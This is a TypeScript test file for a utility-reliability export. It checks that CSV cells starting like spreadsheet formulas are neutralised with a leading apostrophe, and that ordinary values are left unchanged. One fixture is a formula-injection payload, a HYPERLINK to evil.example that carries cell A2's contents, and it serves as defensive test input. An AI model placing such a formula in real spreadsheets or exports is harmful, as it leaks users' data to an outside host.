// The export's CSV cells (api/reliability/export-columns.ts): text a spreadsheet would run as a formula is
// neutralised; numbers, times and plain text are written as they are.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { csvCells, EXPORT_COLUMNS, type ExportSource } from '../../api/reliability/export-columns.js';
import { spreadsheetSafe } from '../../plumbing/csv.js';

const row = (over: Partial<ExportSource>): ExportSource => ({
  id: '7', PowerLineID: 'L1', powerLineName: 'Feeder 1', status: 'closed', kind: 'permanent',
  first_trip_at: new Date('2026-11-01T10:00:00Z'), last_trip_at: new Date('2026-11-01T10:00:03Z'), restored_device_at: null,
  sections: [], indicators: [], section_customers: null, cause: 'other', major_event: false, cause_note: null, cause_set_by: null, cause_set_at: null, ...over,
});

test('a note, a line name or a label that starts like a formula is written with a leading apostrophe', () => {
  const cells = csvCells(row({ cause_note: '=HYPERLINK("http://evil.example/?"&A2,"details")', powerLineName: '@SUM(1+1)', PowerLineID: '+1', cause_set_by: '-2' }), false);
  const at = (name: string) => cells[EXPORT_COLUMNS.findIndex((c) => c.name === name)];
  assert.is(at('causeNote'), `'=HYPERLINK("http://evil.example/?"&A2,"details")`);
  assert.is(at('powerLineName'), "'@SUM(1+1)");
  assert.is(at('powerLineId'), "'+1");
  assert.is(at('causeSetBy'), "'-2");
  for (const start of ['\t', '\r']) assert.is(spreadsheetSafe(`${start}x`), `'${start}x`);
});

test('numbers, times and ordinary text are unchanged', () => {
  const cells = csvCells(row({ cause_note: 'tree on the line', section_customers: -0 }), false);
  const at = (name: string) => cells[EXPORT_COLUMNS.findIndex((c) => c.name === name)];
  assert.is(at('causeNote'), 'tree on the line');
  assert.is(at('incidentId'), 7);
  assert.is(at('firstTripAt'), '2026-11-01T10:00:00.000Z');
});

test.run();
